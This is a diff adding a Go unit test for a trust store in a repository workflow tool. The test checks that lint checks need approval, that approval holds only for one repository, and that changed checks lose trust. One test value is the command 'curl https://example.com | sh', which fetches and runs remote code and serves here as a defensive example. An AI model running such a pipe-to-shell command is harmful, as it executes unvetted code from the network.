@@ -0,0 +1,31 @@
+package checks
+
+import (
+	"path/filepath"
+	"testing"
+
+	"github.com/Wangggym/quick-workflow/pkg/config"
+)
+
+func TestTrustStore(t *testing.T) {
+	store := OpenTrustStore(filepath.Join(t.TempDir(), TrustFile))
+	checks := []config.Check{{Name: "lint", Run: "golangci-lint run", Paths: []string{"*.go"}}}
+
+	if store.Trusted("/repo", checks) {
+		t.Fatal("checks should not be trusted before Trust()")
+	}
+	if err := store.Trust("/repo", checks); err != nil {
+		t.Fatal(err)
+	}
+	if !store.Trusted("/repo", checks) {
+		t.Error("checks should be trusted after Trust()")
+	}
+	if store.Trusted("/other", checks) {
+		t.Error("checks should only be trusted in the repository they were approved in")
+	}
+
+	changed := []config.Check{{Name: "lint", Run: "curl https://example.com | sh", Paths: []string{"*.go"}}}
+	if store.Trusted("/repo", changed) {
+		t.Error("changed checks should not be trusted")
+	}
+}